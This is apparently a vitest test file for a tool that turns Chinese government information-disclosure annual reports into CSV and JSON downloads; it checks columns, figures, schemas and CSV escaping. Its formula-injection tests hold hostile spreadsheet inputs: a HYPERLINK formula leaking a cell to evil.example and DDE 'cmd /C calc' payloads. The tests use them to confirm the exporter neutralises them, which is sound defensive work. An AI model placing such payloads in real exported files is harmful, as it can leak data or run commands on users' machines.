/**
 * The downloads, built from real reports of every format converted from
 * sources/ in memory: 大武口区 2017 and 平罗县 2016 (2008 national table; 平罗
 * has no table, only prose), 平潭 2016 (Fujian's table), 平潭 2020 (2019
 * format, glued cells left uncertain), 平潭 2022 and 沭阳县发改局 2023 (2021
 * format; 沭阳 leaves the 法人或其他组织 columns blank).
 */
import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { CONCEPTS, getTemplate, TEMPLATES } from "../../../src/catalog/index.ts";
import { convertSource } from "../../../src/converter/pipeline.ts";
import { figureOf } from "../../../src/report/figures.ts";
import { jurisdictionIdPattern, parseReport, reportIdPattern, type Report } from "../../../src/schema/report.ts";
import { buildDateFrom, resolveBuildDate } from "../../../src/site/datasets/build-date.ts";
import { codebookColumns, codebookRows } from "../../../src/site/datasets/codebook.ts";
import { contentOf, contentText } from "../../../src/site/datasets/content.ts";
import {
  JURISDICTION_ID_PATTERN,
  REPORT_ID_PATTERN,
  conceptColumns,
  longColumns,
  reportListColumns,
  splitCaveat,
  wideColumns,
  wideMetadataColumns,
} from "../../../src/site/datasets/columns.ts";
import { BOM, FORMULA_START, csvPieces, parseCsv, plainNumber, toCsv } from "../../../src/site/datasets/csv.ts";
import { reportsJsonPieces, toJson } from "../../../src/site/datasets/files.ts";
import { buildDownloads, type DownloadBundle } from "../../../src/site/datasets/index.ts";
import { datasetJsonLd, jsonLdScript } from "../../../src/site/datasets/jsonld.ts";
import { prefectureName, templateFigures } from "../../../src/site/datasets/observations.ts";
import { CONCEPT_STATUSES, VALUE_STATUSES, codeWithLabel } from "../../../src/site/datasets/vocabulary.ts";

const SOURCES = join(import.meta.dirname, "../../../sources");
const FILES = [
  "000_76c4b6d22ff18d10.txt",
  "002_0db27c3e21f320cb.txt",
  "fujian-pingtan-2016.txt",
  "fujian-pingtan-2020.txt",
  "fujian-pingtan-2022.txt",
  "jiangsu-shuyang-2023-fagaiju.html",
];
const reports: Report[] = await Promise.all(
  FILES.map(async (file) => (await convertSource({ file, bytes: readFileSync(join(SOURCES, file)) })).report),
);
const byId = new Map(reports.map((r) => [r.id, r]));
const IDS = ["321322-development-reform-2023", "640202-2017", "640221-2016", "x659039f5dea5-2016", "x659039f5dea5-2020", "x659039f5dea5-2022"];
const dawukou = byId.get("640202-2017")!;
const shuyang = byId.get("321322-development-reform-2023")!;

const BUILD = buildDateFrom(new Date(Date.UTC(2024, 5, 30, 12, 0, 0)));
const bundle = buildDownloads(reports, BUILD);

function file(from: DownloadBundle, path: string): string {
  const found = from.byPath.get(path);
  if (!found) throw new Error(`no download ${path}`);
  return contentText(found.content());
}

/** Parse a CSV into header + records as objects keyed by column name. */
function table(text: string): { header: string[]; rows: Record<string, string>[] } {
  const [header, ...records] = parseCsv(text);
  if (!header) throw new Error("empty CSV");
  return {
    header,
    rows: records.map((record) => {
      expect(record).toHaveLength(header.length);
      return Object.fromEntries(header.map((name, i) => [name, record[i]!]));
    }),
  };
}

function row(rows: Record<string, string>[], where: Record<string, string>): Record<string, string> {
  const found = rows.filter((r) => Object.entries(where).every(([k, v]) => r[k] === v));
  expect(found, JSON.stringify(where)).toHaveLength(1);
  return found[0]!;
}

/** A deep copy of a report to alter for one test. */
function altered(report: Report, change: (r: Report) => void): Report {
  const copy = structuredClone(report);
  change(copy);
  return parseReport(copy, `${report.id} (altered in test)`);
}

const cell = (value: number | null) => (value === null ? "" : plainNumber(value));
const place = (report: Report, id: string) => templateFigures(getTemplate(report.template)).find((f) => f.id === id)!;

it("converts the six reports the tests name", () => {
  expect(reports.map((r) => r.id).sort()).toEqual(IDS);
  expect(reports.map((r) => r.template).sort()).toEqual(["fujian-2008", "national-2008", "national-2008", "national-2019", "national-2021", "national-2021"]);
});

describe("toCsv", () => {
  it("writes a BOM, CRLF after every record, and quotes commas, quotes and newlines", () => {
    const label = '不同意公开答复数, 其中"涉及国家秘密"';
    const csv = toCsv(["indicator_label", "note", "value"], [[label, "第一行\n第二行", 8573]]);
    expect(csv).toBe(`${BOM}indicator_label,note,value\r\n"不同意公开答复数, 其中""涉及国家秘密""","第一行\n第二行",8573\r\n`);
    expect(parseCsv(csv)).toEqual([
      ["indicator_label", "note", "value"],
      [label, "第一行\n第二行", "8573"],
    ]);
  });

  it("writes null as an empty cell and booleans as true/false", () => {
    expect(toCsv(["a", "b", "c"], [[null, true, false]])).toBe(`${BOM}a,b,c\r\n,true,false\r\n`);
  });

  it("refuses a row whose length differs from the header", () => {
    expect(() => toCsv(["a", "b"], [["only one"]])).toThrow(/row 1 has 1 cells, the header has 2/);
  });

  it("writes a text cell a spreadsheet would evaluate with a leading apostrophe, quoted when it needs quotes", () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")';
    const csv = toCsv(["a", "b", "c", "d", "e", "f"], [[hyperlink, "+86 951 1234567", "-3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]]);
    expect(csv).toBe(
      `${BOM}a,b,c,d,e,f\r\n"'=HYPERLINK(""http://evil.example/?leak=""&A1,""点此查看"")",'+86 951 1234567,'-3,'@SUM(A1:A2),'\t=1+1,"'\r=1+1"\r\n`,
    );
  });

  it("escapes the full-width ＝ ＋ － ＠ too, and leaves a formula character after the first alone", () => {
    expect(toCsv(["a", "b", "c", "d", "e"], [["＝1+1", "＋1", "－", "＠x", "1=1-1+@"]])).toBe(`${BOM}a,b,c,d,e\r\n'＝1+1,'＋1,'－,'＠x,1=1-1+@\r\n`);
  });

  it("writes numbers plainly: no exponent, no separators, negative numbers untouched", () => {
    expect(toCsv(["value", "raw_text"], [[-3, "-3"], [-2.5e-8, null]])).toBe(`${BOM}value,raw_text\r\n-3,'-3\r\n-0.000000025,\r\n`);
    expect(plainNumber(1.5e21)).toBe("1500000000000000000000");
    expect(plainNumber(-0)).toBe("0");
    expect(() => plainNumber(Number.NaN)).toThrow(/not a finite number/);
  });
});

describe("resolveBuildDate", () => {
  it("takes SOURCE_DATE_EPOCH when set, else the current time, and rejects a malformed one", () => {
    expect(resolveBuildDate({ SOURCE_DATE_EPOCH: "1700000000" })).toEqual({ timestamp: "2023-11-14T22:13:20Z", date: "2023-11-14" });
    expect(resolveBuildDate({}, () => new Date(Date.UTC(2025, 0, 31, 23, 59, 59, 999)))).toEqual({ timestamp: "2025-01-31T23:59:59Z", date: "2025-01-31" });
    expect(() => resolveBuildDate({ SOURCE_DATE_EPOCH: "2024-01-01" })).toThrow(/SOURCE_DATE_EPOCH must be a whole number/);
  });
});

describe("long CSV", () => {
  const text = file(bundle, "reports-long.csv");
  const { header, rows } = table(text);

  it("is UTF-8 with BOM and CRLF only, with the documented header", () => {
    expect(text.startsWith(BOM)).toBe(true);
    expect(text.replaceAll("\r\n", "")).not.toMatch(/[\r\n]/);
    expect(header).toEqual(longColumns().map((c) => c.name));
  });

  it("has a row per printed and derived figure, and one per id of the format a report gives nothing for", () => {
    for (const report of reports) {
      const given = new Set([...report.statistics, ...report.derived].map((f) => f.indicator));
      const absent = templateFigures(getTemplate(report.template)).filter((f) => !given.has(f.id)).length;
      const own = rows.filter((r) => r.report_id === report.id);
      expect(own.filter((r) => r.value_status === "not_in_report"), report.id).toHaveLength(absent);
      expect(own, report.id).toHaveLength(report.statistics.length + report.derived.length + absent);
    }
    // 沭阳 prints every cell of the 2021 format (200) and gets every derived sum (62); 平罗 has 12 prose figures of 58 ids.
    expect(rows.filter((r) => r.report_id === shuyang.id)).toHaveLength(262);
    expect(rows.filter((r) => r.report_id === "640221-2016")).toHaveLength(58);
    expect(bundle.main.find((f) => f.path === "reports-long.csv")!.rows).toBe(rows.length);
  });

  it("agrees with the report JSON for every printed figure, place included", () => {
    for (const report of reports) {
      for (const s of report.statistics) {
        const r = row(rows, { report_id: report.id, indicator_id: s.indicator, origin: s.origin, source_line: String(s.span.line), source_column: String(s.span.column) });
        expect(r).toMatchObject({
          value: cell(s.value),
          value_status: s.status,
          raw_text: s.raw.replace(FORMULA_START, "'$&"),
          source_label: s.label,
          source_file: s.span.file,
          source_page: s.span.page === null ? "" : String(s.span.page),
          // Where the figure stands in the format: the cell it was read from, or for prose the catalog's place of the id.
          table: s.table ?? place(report, s.indicator).table ?? "",
          row: s.row ?? place(report, s.indicator).row ?? "",
          column: s.column ?? place(report, s.indicator).column ?? "",
          printed_unit: s.unit ?? "",
          note: s.note ?? "",
          template: report.template,
          jurisdiction_id: report.jurisdiction.id,
          division_code: report.jurisdiction.code ?? "",
          year: String(report.year),
        });
      }
    }
  });

  it("marks every derived figure as derived, with what it sums", () => {
    for (const report of reports) {
      for (const d of report.derived) {
        const r = row(rows, { report_id: report.id, indicator_id: d.indicator, origin: "derived" });
        expect(r).toMatchObject({ indicator_kind: "derived", value: cell(d.value), value_status: d.status, derived_from: d.inputs.join(";"), source_line: "", raw_text: "" });
      }
    }
    expect(row(rows, { report_id: shuyang.id, indicator_id: "requests_received__legal_persons" })).toMatchObject({
      indicator_kind: "derived",
      origin: "derived",
      value: "",
      value_status: "not_reported",
      table: "requests",
      row: "requests_received",
      column: "legal_persons",
      derived_from: "requests_received__commercial;requests_received__research;requests_received__public_interest;requests_received__legal_services;requests_received__other_org",
    });
  });

  it("marks as primary exactly the figure the pages show (src/report/figures.ts)", () => {
    for (const report of reports) {
      for (const figure of templateFigures(getTemplate(report.template))) {
        const primaries = rows.filter((r) => r.report_id === report.id && r.indicator_id === figure.id && r.is_primary === "true");
        expect(primaries, `${report.id} ${figure.id}`).toHaveLength(1);
        const stands = figureOf(report, figure.id);
        expect(primaries[0]!.value, `${report.id} ${figure.id}`).toBe(stands.kind === "absent" ? "" : cell(stands.value));
      }
    }
    // 平潭 2022 states 行政诉讼案件1件 in its prose; the sum of table 四's two totals gives the same 1 and is not primary.
    const litigation = rows.filter((r) => r.report_id === "x659039f5dea5-2022" && r.indicator_id === "litigation__total");
    expect(litigation.map((r) => [r.origin, r.value, r.is_primary, r.source_line])).toEqual([
      ["text", "1", "true", "10"],
      ["derived", "1", "false", ""],
    ]);
  });

  it("gives the seed figures exactly, with their places", () => {
    expect(row(rows, { report_id: "640202-2017", indicator_id: "proactive_total" })).toMatchObject({
      jurisdiction: "大武口区",
      jurisdiction_level: "county",
      prefecture: "石嘴山市",
      province: "宁夏回族自治区",
      indicator_label: "主动公开政府信息数",
      indicator_kind: "indicator",
      table: "statistics",
      row: "proactive_total",
      column: "",
      unit: "条",
      value: "8573",
      value_status: "reported",
      origin: "table",
      source_line: "148",
      is_primary: "true",
    });
    expect(row(rows, { report_id: shuyang.id, indicator_id: "requests_received__total" })).toMatchObject({
      department: "发展和改革局",
      prefecture: "宿迁市",
      table_label: "三、收到和处理政府信息公开申请情况",
      value: "26",
      source_file: "jiangsu-shuyang-2023-fagaiju.html",
      source_line: "436",
    });
    expect(row(rows, { report_id: shuyang.id, indicator_id: "requests_received__commercial" })).toMatchObject({
      value: "",
      value_status: "not_reported",
      origin: "table",
      note: "单元格空白，未填报",
    });
    // 平潭 2020 prints 规范性文件 7777166: three cells glued, seven ways to split them.
    expect(row(rows, { report_id: "x659039f5dea5-2020", indicator_id: "normative_docs__new_made" })).toMatchObject({
      jurisdiction_id: "x659039f5dea5",
      division_code: "",
      value: "",
      value_status: "uncertain",
      raw_text: "7777166",
      source_line: "10",
    });
  });

  it("marks an id the report does not give as not_in_report with empty cells", () => {
    // 平罗县 2016 has no statistics table; its prose gives 受理政府信息公开申请5件 (line 306) but nothing on fax requests.
    expect(row(rows, { report_id: "640221-2016", indicator_id: "requests_fax" })).toMatchObject({
      value: "",
      value_status: "not_in_report",
      is_primary: "true",
      origin: "",
      source_line: "",
      raw_text: "",
    });
    expect(row(rows, { report_id: "640221-2016", indicator_id: "requests_received" })).toMatchObject({ value: "5", origin: "text", source_line: "306" });
  });

  it("quotes the prose sentence with its ASCII commas and reads it back unchanged", () => {
    const sentence = readFileSync(join(SOURCES, "002_0db27c3e21f320cb.txt"), "utf8").split("\n")[305]!.trim();
    expect(sentence).toContain(",2016年受理政府信息公开申请5件,");
    expect(text).toContain(`,"${sentence}",`);
    expect(row(rows, { report_id: "640221-2016", indicator_id: "requests_received" }).source_label).toBe(sentence);
  });

  it("names the failed checks beside every indicator they concern", () => {
    // 平潭 2020: 办理结果总计 · 总计 21 against its parts, which add up to 27.
    const total = row(rows, { report_id: "x659039f5dea5-2020", indicator_id: "replies_total__total", origin: "table" });
    expect(total.check_status).toBe("fail");
    expect(total.failed_checks!.split(";")).toContain("replies_total_sum__total");
    expect(row(rows, { report_id: "x659039f5dea5-2020", indicator_id: "replies_granted__total", origin: "table" }).check_status).toBe("fail");
    expect(row(rows, { report_id: "640221-2016", indicator_id: "requests_fax" }).check_status).toBe("not_assessable");
  });
});

describe("wide CSV per format", () => {
  it("has the metadata columns, then every id of the format, printed then derived", () => {
    for (const template of TEMPLATES) {
      const { header, rows } = table(file(bundle, `reports-wide-${template.id}.csv`));
      const meta = wideMetadataColumns().map((c) => c.name);
      expect(header).toEqual([...meta, ...template.indicators.map((i) => i.id), ...template.derived.map((d) => d.id)]);
      expect(header).toEqual(wideColumns(template).map((c) => c.name));
      expect(rows.map((r) => r.report_id)).toEqual(IDS.filter((id) => byId.get(id)!.template === template.id));
    }
  });

  it("holds the figure that stands for each id, empty unless a number", () => {
    for (const template of TEMPLATES) {
      const { rows } = table(file(bundle, `reports-wide-${template.id}.csv`));
      for (const r of rows) {
        const report = byId.get(r.report_id!)!;
        for (const figure of templateFigures(template)) {
          const stands = figureOf(report, figure.id);
          expect(r[figure.id], `${report.id} ${figure.id}`).toBe(stands.kind === "absent" ? "" : cell(stands.value));
        }
      }
    }
    const national2021 = table(file(bundle, "reports-wide-national-2021.csv")).rows;
    expect(row(national2021, { report_id: shuyang.id })).toMatchObject({
      department: "发展和改革局",
      requests_received__total: "26",
      requests_received__commercial: "",
      requests_received__legal_persons: "",
      has_statistics_table: "true",
    });
    expect(row(table(file(bundle, "reports-wide-national-2008.csv")).rows, { report_id: "640221-2016" })).toMatchObject({
      proactive_total: "42704",
      requests_received: "5",
      requests_fax: "",
      trainees: "1014",
      has_statistics_table: "false",
    });
  });

  it("the all-formats wide CSV has every report and agrees with the per-format files", () => {
    const all = table(file(bundle, "reports-wide.csv"));
    expect(all.rows.map((r) => r.report_id)).toEqual(IDS);
    expect(new Set(all.header).size).toBe(all.header.length);
    for (const template of TEMPLATES) {
      for (const r of table(file(bundle, `reports-wide-${template.id}.csv`)).rows) {
        const other = row(all.rows, { report_id: r.report_id! });
        for (const [name, value] of Object.entries(r)) expect(other[name], `${r.report_id} ${name}`).toBe(value);
      }
    }
    expect(row(all.rows, { report_id: "640202-2017" }).requests_received__total).toBe("");
  });
});

describe("concepts CSV", () => {
  const { header, rows } = table(file(bundle, "reports-concepts.csv"));

  it("has one row per report × concept of the catalog", () => {
    expect(header).toEqual(conceptColumns().map((c) => c.name));
    expect(rows).toHaveLength(reports.length * CONCEPTS.length);
    for (const report of reports) expect(rows.filter((r) => r.report_id === report.id).map((r) => r.concept_id)).toEqual(CONCEPTS.map((c) => c.id));
  });

  it("agrees with the report JSON's concepts, with the indicators and both halves of the caveat", () => {
    for (const report of reports) {
      for (const c of report.concepts) {
        const caveat = splitCaveat(c.caveat);
        expect(row(rows, { report_id: report.id, concept_id: c.concept }), `${report.id} ${c.concept}`).toMatchObject({
          value: cell(c.value),
          value_status: c.status,
          indicators: c.indicators.join(";"),
          caveat: caveat.zh,
          caveat_en: caveat.en,
        });
      }
    }
    expect(row(rows, { report_id: "640221-2016", concept_id: "requests_received" })).toMatchObject({ value: "5", value_status: "reported", indicators: "requests_received", unit: "件" });
    expect(row(rows, { report_id: shuyang.id, concept_id: "requests_received" })).toMatchObject({ value: "26", indicators: "requests_received__total" });
    expect(row(rows, { report_id: "640202-2017", concept_id: "requests_received" })).toMatchObject({
      caveat: "2008年格式按渠道（当面/传真/网络/信函）细分，2019年起按申请人类型细分；两种细分在对方格式中都不存在。",
      caveat_en: "2008 splits by channel (当面/传真/网络/信函), 2019+ by applicant type; neither breakdown exists in the other format.",
    });
  });

  it("says why a concept has no value: the format lacks it, or the report does not give it", () => {
    // Fujian's table has no carry-over; 平罗县's prose says nothing about reconsideration.
    expect(row(rows, { report_id: "x659039f5dea5-2016", concept_id: "requests_carried_over" })).toMatchObject({ value: "", value_status: "not_in_template", indicators: "", caveat: "" });
    expect(row(rows, { report_id: "640221-2016", concept_id: "reconsideration_total" })).toMatchObject({
      value: "",
      value_status: "not_in_report",
      indicators: CONCEPTS.find((c) => c.id === "reconsideration_total")!.templates["national-2008"]!.sumOf.join(";"),
    });
  });
});

describe("report list", () => {
  const { header, rows } = table(file(bundle, "reports.csv"));
  it("has one row per report with its metadata and source", () => {
    expect(header).toEqual(reportListColumns().map((c) => c.name));
    expect(rows.map((r) => r.report_id)).toEqual(IDS);
    expect(row(rows, { report_id: shuyang.id })).toMatchObject({
      title: "沭阳县发展和改革局2023年政府信息公开年度报告",
      template: "national-2021",
      source_file: "jiangsu-shuyang-2023-fagaiju.html",
      source_form: "html",
      source_sha256: createHash("sha256").update(readFileSync(join(SOURCES, "jiangsu-shuyang-2023-fagaiju.html"))).digest("hex"),
      figures_printed: "200",
    });
    expect(row(rows, { report_id: "x659039f5dea5-2020" })).toMatchObject({ checks_uncertain: String(byId.get("x659039f5dea5-2020")!.checks.filter((c) => c.status === "uncertain").length) });
  });
});

describe("per-report and per-indicator files", () => {
  const long = table(file(bundle, "reports-long.csv"));

  it("per-report CSV is the long rows of that report, per-report JSON the validated report", () => {
    for (const report of reports) {
      const own = table(file(bundle, `reports/${report.id}.csv`));
      expect(own.header).toEqual(long.header);
      expect(own.rows).toEqual(long.rows.filter((r) => r.report_id === report.id));
      expect(parseReport(JSON.parse(file(bundle, `reports/${report.id}.json`)), report.id)).toEqual(report);
    }
  });

  it("per-indicator CSV and JSON hold the primary figure of every report whose format has it", () => {
    const received = table(file(bundle, "indicators/requests_received__total.csv"));
    expect(received.header).toEqual(["report_id", "jurisdiction_id", "division_code", "jurisdiction", "year", "template", "value", "value_status", "origin", "source_line", "source_column"]);
    // Hand-read: 沭阳 26, 平潭 2020 21, 平潭 2022 74 (tests/fixtures/expected).
    expect(received.rows.map((r) => [r.report_id, r.template, r.value, r.origin])).toEqual([
      [shuyang.id, "national-2021", "26", "table"],
      ["x659039f5dea5-2020", "national-2019", "21", "table"],
      ["x659039f5dea5-2022", "national-2021", "74", "table"],
    ]);
    const json = JSON.parse(file(bundle, "indicators/requests_received__total.json"));
    expect(json.indicator).toMatchObject({ id: "requests_received__total", table: "requests", row: "requests_received", column: "total", templates: ["national-2019", "national-2021"] });
    expect(json.rows.map((r: { value: number | null }) => cell(r.value))).toEqual(received.rows.map((r) => r.value));
    const fax = table(file(bundle, "indicators/requests_fax.csv")).rows;
    expect(row(fax, { report_id: "640221-2016" })).toMatchObject({ value: "", value_status: "not_in_report", source_line: "" });
    expect(row(fax, { report_id: "640202-2017" }).value_status).toBe("reported");
  });

  it("has a file pair for every report and every printed indicator", () => {
    expect(bundle.perReport.map((p) => p.report.id)).toEqual(IDS);
    expect(bundle.perIndicator).toHaveLength(312);
  });
});

describe("reports.json and the JSON Schema", () => {
  it("holds every validated report sorted by id under meta with the build date", () => {
    const all = JSON.parse(file(buildDownloads([...reports].reverse(), BUILD), "reports.json"));
    expect(all.meta).toMatchObject({ buildDate: "2024-06-30T12:00:00Z", reportCount: 6, schemaVersion: "2.0.0", license: "CC-BY-4.0" });
    expect(all.reports.map((r: Report) => r.id)).toEqual(IDS);
  });

  it("publishes the report JSON Schema", () => {
    const schema = JSON.parse(file(bundle, "report.schema.json"));
    expect(schema.$schema).toBe("https://json-schema.org/draft/2020-12/schema");
    expect(schema.properties.derived.type).toBe("array");
  });
});

describe("datapackage.json", () => {
  const pkg = JSON.parse(file(bundle, "datapackage.json"));
  const csvPaths = ["reports.csv", "reports-long.csv", "reports-concepts.csv", ...TEMPLATES.map((t) => `reports-wide-${t.id}.csv`), "reports-wide.csv", "codebook.csv"];

  it("describes each CSV with schema fields exactly matching its header, and the size and hash of every file", () => {
    expect(pkg.resources.map((r: { path: string }) => r.path)).toEqual([...csvPaths.slice(0, -1), "reports.json", "codebook.csv"]);
    for (const path of csvPaths) {
      const resource = pkg.resources.find((r: { path: string }) => r.path === path);
      expect(resource.profile).toBe("tabular-data-resource");
      expect(resource.schema.fields.map((f: { name: string }) => f.name), path).toEqual(table(file(bundle, path)).header);
      expect(resource.dialect).toMatchObject({ delimiter: ",", lineTerminator: "\r\n", header: true });
    }
    for (const resource of pkg.resources) {
      const body = Buffer.from(file(bundle, resource.path), "utf8");
      expect(resource.bytes).toBe(body.length);
      expect(resource.hash).toBe(`sha256:${createHash("sha256").update(body).digest("hex")}`);
    }
  });

  it("describes the package, every resource and every field in Chinese first, then English", () => {
    const bilingual = /^[^/]*\p{Script=Han}[\s\S]* \/ [\s\S]*[A-Za-z]{3}/u;
    expect(pkg.title).toBe("政府信息公开工作年度报告统计数据 / Statistics from Chinese government information disclosure annual reports");
    expect(pkg.description).toMatch(/^6 份政府信息公开工作年度报告/);
    for (const resource of pkg.resources) {
      expect(resource.title, resource.path).toMatch(/\p{Script=Han}.* \/ [A-Z]/u);
      expect(resource.description, resource.path).toMatch(bilingual);
      for (const field of resource.schema?.fields ?? []) expect(field.description, `${resource.path} ${field.name}`).toMatch(/\p{Script=Han}[\s\S]* \/ /u);
    }
    const status = pkg.resources[1].schema.fields.find((f: { name: string }) => f.name === "value_status");
    expect(status.title).toBe("数值状态 / Value status");
    expect(status.description).toContain("reported = 已报告：报告给出了数字；not_reported = 未报告");
    expect(status.description).toContain(" / reported = the report gives a number; not_reported = ");
    expect(status.constraints.enum).toEqual(["reported", "not_reported", "uncertain", "not_in_report"]);
  });

  it("types the fields and keys the tables on report_id", () => {
    const fields = Object.fromEntries(pkg.resources[1].schema.fields.map((f: { name: string }) => [f.name, f]));
    expect(fields.division_code).toMatchObject({ type: "string", constraints: { pattern: "\\d{6}" } });
    expect(fields.jurisdiction_id).toMatchObject({ type: "string", constraints: { required: true, pattern: JURISDICTION_ID_PATTERN } });
    expect(fields.year.type).toBe("integer");
    expect(fields.value.type).toBe("number");
    expect(fields.source_column.type).toBe("integer");
    expect(fields.is_primary).toMatchObject({ type: "boolean", trueValues: ["true"], falseValues: ["false"] });
    expect(fields.origin.constraints.enum).toEqual(["table", "text", "derived"]);
    expect(pkg.resources[0].schema.primaryKey).toEqual(["report_id"]);
    expect(pkg.resources[2].schema.primaryKey).toEqual(["report_id", "concept_id"]);
    expect(pkg.resources[1].schema.foreignKeys).toEqual([{ fields: ["report_id"], reference: { resource: "report-list", fields: ["report_id"] } }]);
  });

  it("carries license, created date, sources, contributors and keywords", () => {
    expect(pkg.created).toBe("2024-06-30T12:00:00Z");
    expect(pkg.licenses).toEqual([{ name: "CC-BY-4.0", title: "Creative Commons Attribution 4.0 International", path: "https://creativecommons.org/licenses/by/4.0/" }]);
    expect(pkg.sources).toContainEqual({ title: "石嘴山市大武口区2017年政府信息公开工作年度报告", path: "http://www.dwk.gov.cn/" });
    expect(pkg.sources).toContainEqual({ title: "平罗县2016年政府信息公开工作年度报告", path: "http://www.nxpl.gov.cn" });
    // A website printed without a scheme is no source path.
    const bare = altered(dawukou, (r) => {
      r.website = "WWW.dwk.gov.cn";
    });
    expect(JSON.parse(file(buildDownloads([bare], BUILD), "datapackage.json")).sources).toContainEqual({ title: dawukou.title });
    expect(pkg.contributors).toContainEqual({ title: "大武口区人民政府办公室", role: "contributor" });
  });
});

describe("codebook", () => {
  const { header, rows } = table(file(bundle, "codebook.csv"));

  it("lists every column of every CSV, every id of every format and every concept, once per file", () => {
    expect(header).toEqual(codebookColumns().map((c) => c.name));
    expect(rows).toHaveLength(codebookRows().length);
    expect(new Set(rows.map((r) => `${r.file} ${r.name}`)).size).toBe(rows.length);
    expect(rows.filter((r) => r.file === "reports-long.csv").map((r) => r.name)).toEqual(longColumns().map((c) => c.name));
    for (const template of TEMPLATES) {
      const own = rows.filter((r) => r.file === `reports-wide-${template.id}.csv`);
      expect(own.map((r) => r.name)).toEqual(wideColumns(template).map((c) => c.name));
      expect(own.filter((r) => r.kind === "derived").map((r) => r.name)).toEqual(template.derived.map((d) => d.id));
    }
    expect(rows.filter((r) => r.kind === "concept").map((r) => r.name)).toEqual(CONCEPTS.map((c) => c.id));
  });

  it("names and describes every entry in Chinese and in English", () => {
    for (const r of rows) {
      expect(r.title, `${r.file} ${r.name}`).toMatch(/\p{Script=Han}/u);
      expect(r.description, `${r.file} ${r.name}`).toMatch(/\p{Script=Han}/u);
      expect(r.title_en, `${r.file} ${r.name}`).toMatch(/[A-Za-z]/);
      expect(r.description_en, `${r.file} ${r.name}`).toMatch(/[A-Za-z]{3}/);
    }
  });

  it("defines an indicator by its official row, unit, parent and rules, and a derived one by its sum", () => {
    expect(row(rows, { file: "reports-wide-national-2008.csv", name: "requests_online" })).toMatchObject({
      kind: "indicator",
      title: "网络申请数",
      title_en: "Requests made online",
      unit: "件",
      parent: "requests_received",
      table: "statistics",
      section: "三、依申请公开情况",
      template: "national-2008",
      description: "统计表行名：3. 网络申请数。单位：件。上级指标：收到申请数（requests_received）。勾稽关系：收到申请数 = 当面 + 传真 + 网络 + 信函。",
      description_en: "Printed as: 3. 网络申请数; unit: 件; breakdown of requests_received; consistency rules: requests_received_sum.",
    });
    const legal = row(rows, { file: "reports-wide-national-2021.csv", name: "requests_received__legal_persons" });
    expect(legal).toMatchObject({ kind: "derived", title: "本年新收申请 · 法人或其他组织", template: "national-2021", table: "requests" });
    expect(legal.description).toMatch(/^推算指标：本年新收申请 · 商业企业（requests_received__commercial） \+ /);
    expect(legal.description_en).toMatch(/^Derived: requests_received__commercial \+ requests_received__research \+ /);
  });

  it("explains the coded values in both languages", () => {
    const status = row(rows, { file: "reports-long.csv", name: "value_status" });
    for (const v of VALUE_STATUSES) {
      expect(status.description).toContain(`${v.code} = ${v.label}：${v.description}`);
      expect(status.description_en).toContain(`${v.code} = ${v.descriptionEn}`);
    }
    expect(row(rows, { file: "reports-concepts.csv", name: "value_status" }).description).toContain("not_in_template = 格式无此项");
    expect(codeWithLabel(CONCEPT_STATUSES, "not_in_report")).toBe("not_in_report（报告未载）");
  });
});

describe("spreadsheet formulas in report text", () => {
  const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")';
  const hostile = altered(dawukou, (r) => {
    r.title = `${HYPERLINK}2017年政府信息公开工作年度报告`;
    r.jurisdiction.name = "+cmd|' /C calc'!A0";
    r.publisher = "@SUM(1+1)*cmd|' /C calc'!A0";
    const fax = r.statistics.find((s) => s.indicator === "requests_fax")!;
    Object.assign(fax, { value: -3, raw: "-3", label: "\t=1+1", note: "\r=2+2" });
  });
  const out = buildDownloads([hostile], BUILD);
  const numberColumns = new Set(["value", "year", "source_line", "source_column", "source_page", "checks_failed", "checks_uncertain", "figures_printed", ...templateFigures(getTemplate("national-2008")).map((f) => f.id)]);

  it("leaves no cell of any CSV starting with = + - @ tab or CR unless it is a number", () => {
    for (const path of ["reports.csv", "reports-long.csv", "reports-concepts.csv", "reports-wide-national-2008.csv", "reports-wide.csv", `reports/${hostile.id}.csv`, "indicators/requests_fax.csv"]) {
      const [header, ...records] = parseCsv(file(out, path));
      for (const record of records) {
        record.forEach((value, i) => {
          if (numberColumns.has(header![i]!) || /__/.test(header![i]!)) {
            if (value !== "") expect(Number.isFinite(Number(value)), `${path} ${header![i]} ${value}`).toBe(true);
          } else expect(value, `${path} ${header![i]}`).not.toMatch(FORMULA_START);
        });
      }
    }
  });

  it("keeps the text readable behind the apostrophe and the negative figure a number", () => {
    expect(row(table(file(out, "reports-long.csv")).rows, { indicator_id: "requests_fax" })).toMatchObject({
      jurisdiction: "'+cmd|' /C calc'!A0",
      value: "-3",
      raw_text: "'-3",
      source_label: "'\t=1+1",
      note: "'\r=2+2",
    });
    expect(table(file(out, "reports-wide-national-2008.csv")).rows[0]).toMatchObject({
      title: `'${HYPERLINK}2017年政府信息公开工作年度报告`,
      publisher: "'@SUM(1+1)*cmd|' /C calc'!A0",
      requests_fax: "-3",
    });
  });
});

describe("bulk files in pieces (a large corpus's are longer than a JavaScript string)", () => {
  const sha256 = (text: string) => createHash("sha256").update(text, "utf8").digest("hex");

  it("writes reports.json report by report, byte for byte the JSON of the whole object", () => {
    const meta = (count: number) => ({
      title: "政府信息公开工作年度报告统计数据",
      schemaVersion: reports[0]!.schemaVersion,
      schema: "report.schema.json",
      license: "CC-BY-4.0",
      buildDate: BUILD.timestamp,
      reportCount: count,
    });
    const sorted = [...reports].sort((a, b) => (a.id < b.id ? -1 : 1));
    const pieces = [...reportsJsonPieces(reports, BUILD)];
    expect(pieces).toHaveLength(reports.length + 2);
    expect(pieces.join("")).toBe(toJson({ meta: meta(6), reports: sorted }));
    expect([...reportsJsonPieces([], BUILD)].join("")).toBe(toJson({ meta: meta(0), reports: [] }));
    expect(file(bundle, "reports.json")).toBe(toJson({ meta: meta(6), reports: sorted }));
  });

  it("writes a CSV in pieces of whole records that join to the file toCsv writes", () => {
    const rows = Array.from({ length: 4500 }, (_, i) => [`第${i}行`, i % 3 === 0 ? "甲,乙" : "=1+1", i]);
    const pieces = [...csvPieces(["label", "note", "value"], rows)];
    // The header, then 2,000 records a piece.
    expect(pieces.map((p) => parseCsv(p).length)).toEqual([1, 2000, 2000, 500]);
    expect(pieces[0]).toBe(`${BOM}label,note,value\r\n`);
    expect(pieces[1]!.startsWith('第0行,"甲,乙",0\r\n第1行,\'=1+1,1\r\n')).toBe(true);
